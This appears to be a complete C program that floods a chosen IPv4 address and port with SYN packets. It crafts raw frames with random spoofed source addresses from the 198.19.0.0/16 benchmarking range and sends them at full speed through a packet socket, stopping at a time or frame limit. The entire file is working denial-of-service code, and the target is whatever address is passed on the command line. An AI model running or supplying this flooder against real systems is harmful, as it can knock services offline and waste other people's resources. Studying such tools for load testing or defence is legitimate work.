/* Sends SYN segments from ever other sources as fast as one core can, bounded in time and number.
 *
 *     syn_flood INTERFACE SOURCE_MAC DESTINATION_MAC DESTINATION_IPV4 PORT SECONDS FRAMES
 *
 * Sources are in 198.19.0.0/16 (RFC 2544), MAC addresses 12 hex digits. Prints how many frames it sent.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { BATCH = 64, FRAME = 14 + 20 + 20 };

static uint64_t state = 0x9e3779b97f4a7c15u;

static uint32_t chance(void) {
    state ^= state << 13;
    state ^= state >> 7;
    state ^= state << 17;
    return (uint32_t)(state >> 16);
}

static uint32_t sum(const uint8_t *data, int octets) {
    uint32_t total = 0;
    for (int i = 0; i < octets; i += 2) total += (uint32_t)data[i] << 8 | data[i + 1];
    return total;
}

static void store(uint8_t *at, uint32_t total) {
    while (total >> 16) total = (total & 0xffff) + (total >> 16);
    at[0] = (uint8_t)(~total >> 8);
    at[1] = (uint8_t)~total;
}

static void mac(uint8_t *out, const char *text) {
    for (int i = 0; i < 6; i++) sscanf(text + 2 * i, "%2hhx", &out[i]);
}

static void make(uint8_t *frame, const uint8_t *link, uint32_t destination, uint16_t port) {
    uint8_t *ip = frame + 14, *tcp = frame + 34;
    uint32_t source = htonl(0xc6130000u | (chance() & 0xffff)), seq = chance();
    uint16_t source_port = (uint16_t)(1024 + chance() % 60000);
    memcpy(frame, link, 14);
    memcpy(ip, "\x45\0\0\x28\0\0\x40\0\x40\x06\0\0", 12);
    memcpy(ip + 12, &source, 4);
    memcpy(ip + 16, &destination, 4);
    store(ip + 10, sum(ip, 20));
    memset(tcp, 0, 20);
    tcp[0] = (uint8_t)(source_port >> 8);
    tcp[1] = (uint8_t)source_port;
    tcp[2] = (uint8_t)(port >> 8);
    tcp[3] = (uint8_t)port;
    memcpy(tcp + 4, &seq, 4);
    memcpy(tcp + 12, "\x50\x02\xff\xff", 4);
    store(tcp + 16, sum(ip + 12, 8) + 6 + 20 + sum(tcp, 20));
}

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

int main(int count, char **argument) {
    static uint8_t frames[BATCH][FRAME];
    struct mmsghdr messages[BATCH] = {0};
    struct iovec parts[BATCH];
    struct sockaddr_ll to = {.sll_family = AF_PACKET};
    uint8_t link[14] = {[12] = 8};
    int one = 1;
    long sent = 0;
    if (count != 8) return 2;
    int packets = socket(AF_PACKET, SOCK_RAW, 0);
    to.sll_ifindex = (int)if_nametoindex(argument[1]);
    if (packets < 0 || to.sll_ifindex == 0 || bind(packets, (struct sockaddr *)&to, sizeof to) != 0) return 3;
    setsockopt(packets, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof one);
    mac(link + 6, argument[2]);
    mac(link, argument[3]);
    uint32_t destination = inet_addr(argument[4]);
    uint16_t port = (uint16_t)atoi(argument[5]);
    double until = now() + atof(argument[6]);
    long most = atol(argument[7]);
    for (int i = 0; i < BATCH; i++) {
        parts[i] = (struct iovec){frames[i], FRAME};
        messages[i].msg_hdr.msg_iov = &parts[i];
        messages[i].msg_hdr.msg_iovlen = 1;
    }
    while (sent + BATCH <= most && now() < until) {
        for (int i = 0; i < BATCH; i++) make(frames[i], link, destination, port);
        int done = sendmmsg(packets, messages, BATCH, 0);
        if (done < 0 && errno != ENOBUFS && errno != EAGAIN) return 4;
        sent += done > 0 ? done : 0;
    }
    printf("%ld\n", sent);
    return 0;
}
